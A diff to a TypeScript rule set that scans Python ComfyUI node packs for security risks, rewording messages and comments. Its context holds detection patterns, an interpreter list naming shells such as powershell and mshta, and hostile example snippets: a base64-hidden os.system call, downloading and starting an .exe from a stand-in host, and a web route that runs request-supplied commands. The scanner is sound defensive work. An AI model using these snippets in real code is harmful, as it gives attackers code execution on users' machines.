@@ -39,7 +39,7 @@ export const installs: CodeRule = {
   of: 'python',
   id: 'package-install',
   severity: 'low',
-  why: 'What is installed while the pack runs is not seen by anyone who checked it, and can break other packs.',
+  why: 'Packages installed at run time were never checked, and can break other packs.',
   fix: 'Name the packages under `dependencies` in pyproject.toml.',
   examples: {
     matching: [
@@ -62,7 +62,7 @@ export const installs: CodeRule = {
       if (indexesSet(call).some((value) => value.texts.some(isStrangeIndex)))
         yield {
           line: call.line,
-          message: 'Has installers ask an index that is not well known.',
+          message: 'Makes installers use an index that is not well known.',
           severity: 'high',
         }
       const isModule = /^runpy\.run_module$/.test(call.name) && call.args[0]?.texts.includes('pip') === true
@@ -74,7 +74,7 @@ export const installs: CodeRule = {
   },
 }
 
-/** Where installers are told to look, by a variable of the environment. */
+/** Returns package index addresses set through an environment variable. */
 function indexesSet({ name, args, keywords }: Call): Value[] {
   const stored = /\.(\w+)=$/.exec(name)?.[1]
   if (stored !== undefined) return isIndexVariable(stored) ? [...args] : []
@@ -120,13 +120,13 @@ function installHit(call: Call, command: string): Omit<Hit, 'line'> {
     : { message: 'Installs packages while it runs.' }
 }
 
-/** The packages that a command names. */
+/** Returns the packages that a command names. */
 function installedNames(command: string): string[] {
   const [, words = ''] = /\binstall\s+(.*)/.exec(command) ?? []
   return words.split(/\s+/).filter((word) => !/^-|[:/\\]|…/.test(word))
 }
 
-/** Commands that no comfy-node needs, with what they do. */
+/** Commands that no comfy-node needs, with their effect. */
 const suspiciousCommands: [Test, string][] = [
   [
     anyOf(
@@ -343,7 +343,7 @@ export const hiddenCommand: CodeRule = {
   id: 'hidden-command',
   severity: 'critical',
   why: 'A command that is decoded before it runs hides what it does from everyone who reads it.',
-  fix: 'Write the command as it is.',
+  fix: 'Write the command as plain text.',
   examples: {
     matching: [
       'import os, base64\nos.system(base64.b64decode("bHM=").decode())',
@@ -362,7 +362,7 @@ export const hiddenCommand: CodeRule = {
     ),
 }
 
-/** Programs that run what they are given. */
+/** Programs that run their input. */
 const interpreter =
   /^(python\d?(\.\d+)?|pythonw|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php|wscript|cscript|mshta|osascript|sudo|env|start|open|xdg-open|msiexec|rundll32|chmod)$/
 
@@ -371,14 +371,14 @@ function programValue(call: Call): Value | undefined {
   return command?.items?.[0] ?? command
 }
 
-/** True when what has this origin decides what runs, not only what it is given. */
+/** Whether a value of this origin decides what runs, not only its arguments. */
 function decides(call: Call, ...origin: Parameters<typeof has>[1][]): boolean {
   const command = commandValue(call)
   if (!has(command, ...origin)) return false
   if (has(programValue(call), ...origin) && command?.items) return true
   const text = commandOf(call)
   const program = programOf(text)
-  // The module that Python runs is written out.
+  // The module that Python runs is literal.
   if (command?.items && /^\S+\s+(-[a-zA-Z]\s+)*-m\s+\w/.test(text) && program.includes('python')) return false
   // A single word is the program itself.
   if (!command?.items && (program === '' || !/\s/.test(text))) return true
@@ -387,7 +387,7 @@ function decides(call: Call, ...origin: Parameters<typeof has>[1][]): boolean {
   return interpreter.test(program)
 }
 
-/** In a list of words, only the program and what an interpreter runs are a command. */
+/** In a list of words, only the program and the code for an interpreter count as the command. */
 function hidesCommand(call: Call): boolean {
   const command = commandValue(call)
   return command?.items ? decides(call, 'decoded') : has(command, 'decoded')
@@ -397,7 +397,7 @@ export const remoteCommand: CodeRule = {
   of: 'python',
   id: 'remote-command',
   severity: 'critical',
-  why: 'Whoever controls that address can run any program on every machine that has the pack.',
+  why: 'The owner of that address can run any program on every machine that has the pack.',
   fix: 'Remove it. A pack starts only programs that its source names.',
   examples: {
     matching: [
@@ -421,7 +421,7 @@ export const remoteCommand: CodeRule = {
         ? { message: 'Runs a command that comes from the network.' }
         : undefined
     })
-    // Which process is written to is not known: any of the file that reads what it runs.
+    // The target process of a write is unknown, so it may be any process of the file that runs its input.
     if (!facts.calls.some((call) => isProgramStart(call) && isShell(call))) return
     for (const call of facts.calls)
       if (/Popen\(\)\.(communicate|stdin\.write)$/.test(call.name) && has(call.args[0], 'network'))
@@ -429,7 +429,7 @@ export const remoteCommand: CodeRule = {
   },
 }
 
-/** An interpreter that is given no file, and so runs what it reads. */
+/** Whether this is an interpreter without a file, which runs its input. */
 function isShell(call: Call): boolean {
   const [program = '', ...rest] = commandOf(call).split(/\s+/)
   const runs = /^(python\d?(\.\d+)?|sh|bash|zsh|dash|ksh|cmd|powershell|pwsh|node|perl|ruby|php)$/
@@ -440,8 +440,8 @@ export const downloadedProgram: CodeRule = {
   of: 'python',
   id: 'downloaded-program',
   severity: 'high',
-  why: 'Whoever controls that address can run any program on every machine that has the pack.',
-  fix: 'Let the user install the program, or name a package that brings it.',
+  why: 'The owner of that address can run any program on every machine that has the pack.',
+  fix: 'Let the user install the program, or name a package that contains it.',
   examples: {
     matching: [
       'import os, urllib.request as u\np = "a.exe"\nu.urlretrieve("https://example.test/a.exe", p)\nos.startfile(p)',
@@ -468,8 +468,8 @@ export const requestCommand: CodeRule = {
   of: 'python',
   id: 'request-command',
   severity: 'high',
-  why: 'Whoever reaches the tool’s server, such as a web page that its user opens, can run programs.',
-  fix: 'Start fixed programs with a list of arguments, and check what requests ask for.',
+  why: 'Anyone who reaches the tool’s server can run programs, such as a web page that its user opens.',
+  fix: 'Start fixed programs with a list of arguments, and check the arguments of requests.',
   examples: {
     matching: [
       'import os\n@PromptServer.instance.routes.post("/run")\nasync def run(request):\n    data = await request.json()\n    os.system(data["cmd"])',
